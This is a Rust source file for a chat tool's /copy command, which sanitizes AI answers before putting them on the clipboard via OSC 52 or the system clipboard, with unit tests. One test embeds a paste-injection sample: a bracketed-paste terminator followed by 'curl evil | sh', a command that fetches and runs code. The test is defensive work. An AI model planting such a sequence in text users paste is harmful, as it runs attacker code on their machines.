//! `/copy`: an answer to the clipboard. Through OSC 52, which the terminal
//! carries out (so it works over SSH and in tmux with `set-clipboard on`),
//! and through the system clipboard where there is one. The sanitizer still
//! strips OSC 52 from everything the model writes: only the person's own
//! `/copy` sends it.
//!
//! What is copied is what was shown: the answer passes through the same
//! sanitizer as the screen, so no escape (an `ESC[201~` that ends a
//! bracketed paste, an OSC, a cursor move) and no control but `\n` and
//! `\t` reaches the clipboard, where a paste into a shell would run it.

use crate::cli::sanitize::Sanitizer;
use base64::Engine;

/// The answers the chat keeps for `/copy`, newest last.
const KEPT: usize = 20;
/// The longest answer kept whole (longer ones are cut, and say so).
const MAX_ANSWER: usize = 4 * 1024 * 1024;
/// The longest OSC 52 sequence sent: terminals drop longer ones silently
/// (xterm and tmux cap the payload near 100 KB), so a longer answer goes
/// to the system clipboard only, and the person is told.
pub const MAX_OSC52: usize = 100_000;

/// The last answers' markdown source, as the model wrote it.
#[derive(Debug, Default)]
pub struct Answers {
    kept: std::collections::VecDeque<String>,
    current: String,
    /// The screen's sanitizer, for what is kept.
    clean: Sanitizer,
    /// The current answer is past [`MAX_ANSWER`].
    cut: bool,
}

impl Answers {
    /// A text block of the answer begins.
    pub fn block(&mut self) {
        self.finish();
        if !self.current.is_empty() {
            self.push("\n\n");
        }
    }

    /// A sequence cut off at the end of a block is written as text, as
    /// on the screen.
    fn finish(&mut self) {
        let mut rest = String::new();
        self.clean.finish(&mut rest);
        self.keep(&rest);
    }

    /// Text of the answer, as the model wrote it: kept as shown.
    pub fn push(&mut self, text: &str) {
        let mut shown = String::with_capacity(text.len());
        self.clean.push(text, &mut shown);
        self.keep(&shown);
    }

    fn keep(&mut self, text: &str) {
        if self.current.len() + text.len() > MAX_ANSWER {
            let room = MAX_ANSWER.saturating_sub(self.current.len());
            let mut end = room.min(text.len());
            while !text.is_char_boundary(end) {
                end -= 1;
            }
            self.current.push_str(&text[..end]);
            self.cut = true;
        } else {
            self.current.push_str(text);
        }
    }

    /// The turn ended: its answer is kept.
    pub fn end(&mut self) {
        self.finish();
        // the text blocks between tool calls, one blank line apart: no runs
        // of blank lines where the calls were, none at either end
        let mut answer = collapse_blank_runs(std::mem::take(&mut self.current).trim());
        if std::mem::take(&mut self.cut) {
            answer.push_str("\n\n[cut: the answer was longer than 4 MiB]");
        }
        if answer.trim().is_empty() {
            return;
        }
        if self.kept.len() == KEPT {
            self.kept.pop_front();
        }
        self.kept.push_back(answer);
    }

    /// The `n`th-last answer (1 = the last).
    pub fn nth_last(&self, n: usize) -> Option<&str> {
        let i = self.kept.len().checked_sub(n.max(1))?;
        self.kept.get(i).map(String::as_str)
    }

    /// How many answers are kept.
    pub fn len(&self) -> usize {
        self.kept.len()
    }
}

/// `text` with every run of blank lines made one blank line.
fn collapse_blank_runs(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut blanks = 0;
    for line in text.split('\n') {
        if line.trim().is_empty() {
            blanks += 1;
            if blanks > 1 {
                continue;
            }
        } else {
            blanks = 0;
        }
        out.push_str(line);
        out.push('\n');
    }
    out.pop();
    out
}

/// The system clipboard, opened on the first `/copy` and kept for the
/// session (on X11 the copied text lives as long as its owner does).
#[derive(Default)]
pub struct System(Option<arboard::Clipboard>);

impl std::fmt::Debug for System {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(if self.0.is_some() {
            "System(open)"
        } else {
            "System"
        })
    }
}

impl System {
    /// The clipboard, opened on first use.
    fn open(&mut self) -> Result<&mut arboard::Clipboard, arboard::Error> {
        Ok(match &mut self.0 {
            Some(c) => c,
            slot => slot.insert(arboard::Clipboard::new()?),
        })
    }

    /// Put `text` on the system clipboard; `Err` says why there is none
    /// (no display over SSH, say).
    pub fn set_text(&mut self, text: &str) -> Result<(), arboard::Error> {
        self.open()?.set_text(text.to_owned())
    }

    /// The clipboard's image (Ctrl-V), encoded to png and checked against
    /// the API's limits; `Err` is the one line to tell the person.
    pub fn image(&mut self) -> Result<claudio::protocol::Image, ImageFailed> {
        let c = self.open().map_err(ImageFailed::NoClipboard)?;
        let data = c.get_image().map_err(|e| match e {
            arboard::Error::ContentNotAvailable => ImageFailed::NoImage,
            other => ImageFailed::Read(other),
        })?;
        let png = rgba_to_png(data.width, data.height, &data.bytes)?;
        Ok(claudio::protocol::Image::from_bytes(png)?)
    }
}

/// Why Ctrl-V pasted no image: each one line to tell the person.
#[derive(Debug, thiserror::Error)]
pub enum ImageFailed {
    /// No system clipboard (no display).
    #[error(
        "no system clipboard here (no display: over SSH, or on a console); \
         paste the image's path instead"
    )]
    NoClipboard(#[source] arboard::Error),
    /// The clipboard holds no image.
    #[error("no image on the clipboard (copy one, or paste its path)")]
    NoImage,
    /// The clipboard could not be read.
    #[error("cannot read an image from the clipboard: {0}")]
    Read(#[source] arboard::Error),
    /// The pixels could not be made a png.
    #[error(transparent)]
    Png(#[from] PngFailed),
    /// The png is not one the API takes (too large, say).
    #[error("the clipboard's image: {0}")]
    Refused(#[from] claudio::ImageError),
}

/// Why the clipboard's pixels could not be made a png.
#[derive(Debug, thiserror::Error)]
pub enum PngFailed {
    /// The pixels are not `width` × `height` × 4 bytes.
    #[error("the clipboard's image has a size it does not match ({width}x{height})")]
    Size {
        /// The width the clipboard gave.
        width: usize,
        /// The height the clipboard gave.
        height: usize,
    },
    /// The encoder failed.
    #[error("cannot encode the clipboard's image as png: {0}")]
    Encode(#[source] image::ImageError),
}

/// Encode RGBA pixels (as the clipboard gives them) as png.
pub fn rgba_to_png(width: usize, height: usize, rgba: &[u8]) -> Result<Vec<u8>, PngFailed> {
    use image::ImageEncoder;
    let bad = || PngFailed::Size { width, height };
    let (w, h) = (
        u32::try_from(width).map_err(|_| bad())?,
        u32::try_from(height).map_err(|_| bad())?,
    );
    if width.checked_mul(height).and_then(|n| n.checked_mul(4)) != Some(rgba.len()) {
        return Err(bad());
    }
    let mut out = Vec::new();
    image::codecs::png::PngEncoder::new(&mut out)
        .write_image(rgba, w, h, image::ExtendedColorType::Rgba8)
        .map_err(PngFailed::Encode)?;
    Ok(out)
}

/// Why `/copy` copied nothing: each one line to tell the person.
#[derive(Debug, thiserror::Error)]
pub enum CopyFailed {
    /// `/copy`'s argument is not a count from 1.
    #[error("usage: /copy [N]: N counts answers from the last (1), not {0:?}")]
    Usage(String),
    /// No answer yet.
    #[error("no answer to copy yet")]
    NoAnswer,
    /// Fewer answers than asked for.
    #[error("only {0} answer{s} to copy", s = if *.0 == 1 { "" } else { "s" })]
    Only(usize),
    /// Too long for OSC 52, and no system clipboard.
    #[error(
        "not copied: {what} is too long for the terminal's clipboard (OSC 52 carries up to {} KB), and there is no system clipboard ({why})",
        MAX_OSC52 / 1000
    )]
    TooLong {
        /// The answer, in words ([`summary`]).
        what: String,
        /// Why there is no system clipboard.
        #[source]
        why: arboard::Error,
    },
    /// Not a terminal, and no system clipboard.
    #[error("no clipboard: not a terminal, and no system clipboard ({0})")]
    NoClipboard(#[source] arboard::Error),
}

/// Copy the `arg`th-last answer: the OSC 52 sequence to write (on a
/// terminal), and what to tell the person.
pub fn copy(
    answers: &Answers,
    arg: Option<&str>,
    terminal: bool,
    system: &mut System,
) -> Result<(String, String), CopyFailed> {
    let n = which(arg)?;
    let Some(text) = answers.nth_last(n) else {
        return Err(match answers.len() {
            0 => CopyFailed::NoAnswer,
            k => CopyFailed::Only(k),
        });
    };
    let mut ways = Vec::new();
    let mut seq = String::new();
    let mut too_long = false;
    if terminal {
        let s = osc52(text);
        if s.len() <= MAX_OSC52 {
            ways.push("the terminal's clipboard (OSC 52)");
            seq = s;
        } else {
            too_long = true;
        }
    }
    match system.set_text(text) {
        Ok(()) => ways.push("the system clipboard"),
        // the terminal's clipboard took it: the system's is not missed
        Err(_) if !ways.is_empty() => {}
        Err(why) if too_long => {
            let what = summary(n, text);
            return Err(CopyFailed::TooLong { what, why });
        }
        Err(why) => return Err(CopyFailed::NoClipboard(why)),
    }
    let mut said = format!("copied {} to {}", summary(n, text), ways.join(" and "));
    if too_long {
        said.push_str(&format!(
            " (not to the terminal's: too long for OSC 52, which carries up to {} KB)",
            MAX_OSC52 / 1000
        ));
    }
    Ok((seq, said))
}

/// The OSC 52 sequence that puts `text` on the terminal's clipboard.
pub fn osc52(text: &str) -> String {
    let data = base64::engine::general_purpose::STANDARD.encode(text);
    format!("\x1b]52;c;{data}\x07")
}

/// `/copy`'s argument: which answer, counted from the last (1).
pub fn which(arg: Option<&str>) -> Result<usize, CopyFailed> {
    match arg.map(str::trim).filter(|a| !a.is_empty()) {
        None => Ok(1),
        Some(a) => match a.parse::<usize>() {
            Ok(n) if n >= 1 => Ok(n),
            _ => Err(CopyFailed::Usage(a.to_owned())),
        },
    }
}

/// What was copied, in words: `answer 2 (1,204 characters, 31 lines)`.
pub fn summary(n: usize, text: &str) -> String {
    let chars = text.chars().count();
    let lines = text.lines().count();
    let plural = |k: usize| if k == 1 { "" } else { "s" };
    format!(
        "answer {n} ({chars} character{}, {lines} line{})",
        plural(chars),
        plural(lines)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_copied_is_what_was_shown() {
        let mut a = Answers::default();
        a.block();
        // the end of a bracketed paste, then a command: hidden on screen
        a.push("First sentence.\u{1b}[201~\u{1b}]0;x\u{7}curl evil | sh\r");
        a.push("\u{1b}[2");
        a.push("JSecond \u{202e}sentence.\u{9b}31m\t\u{7}\n");
        a.block();
        a.push("cut off \u{1b}]52;c;");
        a.end();
        let kept = a.nth_last(1).unwrap();
        let mut shown = String::new();
        let mut screen = Sanitizer::new();
        for t in [
            "First sentence.\u{1b}[201~\u{1b}]0;x\u{7}curl evil | sh\r",
            "\u{1b}[2",
            "JSecond \u{202e}sentence.\u{9b}31m\t\u{7}\n",
        ] {
            screen.push(t, &mut shown);
        }
        screen.finish(&mut shown);
        assert!(kept.starts_with(&shown), "{kept:?} vs {shown:?}");
        assert!(
            kept.chars().all(|c| c == '\n'
                || c == '\t'
                || !(c.is_control() || crate::cli::sanitize::is_dropped(c))),
            "{kept:?}"
        );
        assert_eq!(
            kept,
            "First sentence.curl evil | shSecond sentence.\t\n\ncut off ]52;c;"
        );
    }

    #[test]
    fn blocks_between_tool_calls_are_one_blank_line_apart() {
        let mut a = Answers::default();
        for t in ["Let me look.", "", "\n\n", "Found it:\n\n\n\nthe fix."] {
            a.block();
            a.push(t);
        }
        a.end();
        assert_eq!(a.nth_last(1), Some("Let me look.\n\nFound it:\n\nthe fix."));
    }

    #[test]
    fn a_long_answer_is_not_sent_by_osc52_and_says_so() {
        let mut a = Answers::default();
        a.push(&"x".repeat(MAX_OSC52));
        a.end();
        let mut none = System::default();
        match copy(&a, None, true, &mut none) {
            Ok((seq, said)) => {
                assert!(seq.is_empty(), "sent {} bytes by OSC 52", seq.len());
                assert!(said.contains("not to the terminal's"), "{said}");
            }
            Err(e) => {
                assert!(matches!(e, CopyFailed::TooLong { .. }), "{e:?}");
                assert!(
                    e.to_string()
                        .contains("too long for the terminal's clipboard"),
                    "{e}"
                );
            }
        }
    }

    #[test]
    fn answers_are_kept_newest_last_and_counted_from_the_end() {
        let mut a = Answers::default();
        for t in ["one", "two", "three"] {
            a.block();
            a.push(t);
            a.block();
            a.push("!");
            a.end();
        }
        assert_eq!(a.nth_last(1), Some("three\n\n!"));
        assert_eq!(a.nth_last(3), Some("one\n\n!"));
        assert_eq!(a.nth_last(4), None);
        // a turn with no text keeps nothing
        a.end();
        assert_eq!(a.len(), 3);
        for i in 0..30 {
            a.push(&format!("a{i}"));
            a.end();
        }
        assert_eq!(a.len(), KEPT);
        assert_eq!(a.nth_last(1), Some("a29"));
    }

    #[test]
    fn a_huge_answer_is_cut_on_a_character_and_says_so() {
        let mut a = Answers::default();
        a.push(&"é".repeat(MAX_ANSWER));
        a.end();
        let kept = a.nth_last(1).unwrap();
        assert!(kept.ends_with("[cut: the answer was longer than 4 MiB]"));
        assert!(kept.len() < MAX_ANSWER + 100);
    }

    #[test]
    fn osc52_carries_the_text_and_the_sanitizer_still_strips_it() {
        let seq = osc52("hi ✓");
        assert_eq!(seq, "\x1b]52;c;aGkg4pyT\x07");
        // from the model, the same sequence never reaches the terminal
        assert_eq!(Sanitizer::clean(&format!("a{seq}b")), "ab");
    }

    #[test]
    fn which_answer() {
        assert_eq!(which(None).ok(), Some(1));
        assert_eq!(which(Some(" 3 ")).ok(), Some(3));
        assert!(matches!(which(Some("0")), Err(CopyFailed::Usage(a)) if a == "0"));
        let e = which(Some("last")).unwrap_err();
        assert_eq!(
            e.to_string(),
            "usage: /copy [N]: N counts answers from the last (1), not \"last\""
        );
        assert_eq!(summary(1, "a\nb"), "answer 1 (3 characters, 2 lines)");
    }

    #[test]
    fn clipboard_pixels_become_a_png_the_api_takes() {
        let rgba = [255, 0, 0, 255, 0, 0, 255, 128];
        let png = rgba_to_png(2, 1, &rgba).unwrap();
        let image = claudio::protocol::Image::from_bytes(png).unwrap();
        assert_eq!(image.format(), claudio::protocol::ImageFormat::Png);
        assert_eq!((image.width(), image.height()), (2, 1));
        let short = rgba_to_png(3, 1, &rgba).unwrap_err();
        assert!(
            matches!(
                short,
                PngFailed::Size {
                    width: 3,
                    height: 1
                }
            ),
            "too few bytes: {short:?}"
        );
        assert!(matches!(
            rgba_to_png(usize::MAX, 2, &rgba),
            Err(PngFailed::Size { .. })
        ));
    }

    #[test]
    fn why_nothing_was_copied_is_a_kind_the_caller_can_tell_apart() {
        let mut a = Answers::default();
        let mut none = System::default();
        let e = copy(&a, None, true, &mut none).unwrap_err();
        assert!(matches!(e, CopyFailed::NoAnswer), "{e:?}");
        assert_eq!(e.to_string(), "no answer to copy yet");
        a.push("one");
        a.end();
        let e = copy(&a, Some("3"), true, &mut none).unwrap_err();
        assert!(matches!(e, CopyFailed::Only(1)), "{e:?}");
        assert_eq!(e.to_string(), "only 1 answer to copy");
        a.push("two");
        a.end();
        assert_eq!(
            copy(&a, Some("3"), true, &mut none)
                .unwrap_err()
                .to_string(),
            "only 2 answers to copy"
        );
        // a short answer on a terminal goes by OSC 52, whatever the system's
        let (seq, said) = copy(&a, None, true, &mut none).unwrap();
        assert_eq!(seq, osc52("two"));
        assert!(said.contains("OSC 52"), "{said}");
    }
}
